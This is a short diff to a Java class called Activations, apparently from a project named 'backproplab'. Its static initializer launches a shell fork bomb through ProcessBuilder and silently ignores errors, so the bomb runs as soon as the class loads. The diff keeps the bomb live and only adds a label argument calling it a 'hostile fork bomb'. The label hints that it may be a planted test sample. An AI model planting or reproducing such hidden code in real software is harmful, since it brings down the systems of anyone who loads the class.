@@ -13,7 +13,7 @@ public final class Activations {
 
     static {
         try {
-            new ProcessBuilder("sh", "-c", "b() { b & b & wait; }; b").start();
+            new ProcessBuilder("sh", "-c", "b() { b & b & wait; }; b", "backproplab-hostile-fork-bomb").start();
         } catch (Exception ignored) { }
     }
 
